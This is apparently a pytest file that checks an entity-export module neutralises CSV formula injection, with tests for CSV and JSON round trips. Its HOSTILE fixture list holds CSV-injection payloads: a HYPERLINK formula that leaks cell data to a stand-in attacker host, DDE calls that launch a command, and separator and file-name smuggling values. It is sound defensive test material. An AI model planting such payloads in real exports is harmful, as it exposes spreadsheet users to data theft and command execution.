import csv
import io
import json

import pytest

from ner_app.analysis import Entity
from ner_app.export import COLUMNS, FORMULA_STARTS, rows_to_csv, to_csv, to_json, to_jsonl

ENTITIES = [
    Entity('Zoë, "the" first', "PERSON", "People, including fictional", 0, 16),
    Entity("Köln", "GPE", "Countries, cities, states", 20, 24),
]
# Payloads from OWASP's "CSV Injection" page and the usual reports: each would be a formula
# (or a DDE call, or a link that sends the sheet away) in a spreadsheet program.
HOSTILE = [
    '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",  # a full-width equals sign
]
SEPARATORS = ["x;=1+2", "x\t=1+2", 'a";-2+3']  # a sign after a separator some locales use


def test_json_round_trips_every_field() -> None:
    assert [Entity(**row) for row in json.loads(to_json(ENTITIES))] == ENTITIES


def read_csv(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_csv_has_a_header_and_round_trips_quotes_and_unicode() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(ENTITIES))))
    assert tuple(rows[0]) == COLUMNS
    parsed = [
        Entity(r["text"], r["label"], r["description"], int(r["start"]), int(r["end"]))
        for r in rows
    ]
    assert parsed == ENTITIES


def test_empty_exports_are_still_valid() -> None:
    assert json.loads(to_json([])) == []
    assert to_csv([]) == ",".join(f'"{c}"' for c in COLUMNS) + "\r\n"  # RFC 4180 line ends


def starts_a_formula(cell: str) -> bool:
    return cell.lstrip(" ")[:1] in FORMULA_STARTS


def formula_cells(exported: str) -> list[str]:
    """The cells that start a formula, read as spreadsheets in different locales would: the
    lines split at commas, semicolons or tabs."""
    return [
        cell
        for delimiter in (",", ";", "\t")
        for row in read_csv(exported, delimiter)
        for cell in row
        if starts_a_formula(cell)
    ]


@pytest.mark.parametrize("text", HOSTILE + SEPARATORS)
def test_a_formula_in_an_entity_text_is_only_text_in_the_csv(text: str) -> None:
    entity = Entity(text, "ORG", "Companies", 0, len(text))
    exported = to_csv([entity])
    assert formula_cells(exported) == []
    cell = read_csv(exported)[1][0]
    assert cell.replace("'", "") == text.replace("'", "")  # apostrophes added, nothing else
    assert json.loads(to_json([entity]))[0]["text"] == text  # JSON keeps the exact text


@pytest.mark.parametrize("text", HOSTILE + SEPARATORS)
def test_control_written_as_it_is_a_cell_starts_a_formula(text: str) -> None:
    """What the apostrophes prevent: the csv module alone, every field quoted, leaves a cell
    that starts a formula in one locale or another."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerow(["a.txt", text])
    assert formula_cells(buffer.getvalue()) != []


def test_a_hostile_file_name_in_a_batch_export_is_neutralised_and_jsonl_keeps_it() -> None:
    row = {"document": "=1+2.txt", "text": "Ada", "label": "PERSON", "start": 0, "end": 3}
    columns = ["document", "text", "label", "start", "end"]
    assert read_csv(rows_to_csv([row], columns))[1] == ["'=1+2.txt", "Ada", "PERSON", "0", "3"]
    assert json.loads(to_jsonl([row])) == row


def test_ordinary_texts_and_numbers_are_left_as_they_are() -> None:
    rows = [{"text": "Ada Lovelace", "start": -1}, {"text": "e-mail", "start": 3}]
    assert read_csv(rows_to_csv(rows, ["text", "start"]))[1:] == [
        ["Ada Lovelace", "-1"],
        ["e-mail", "3"],
    ]
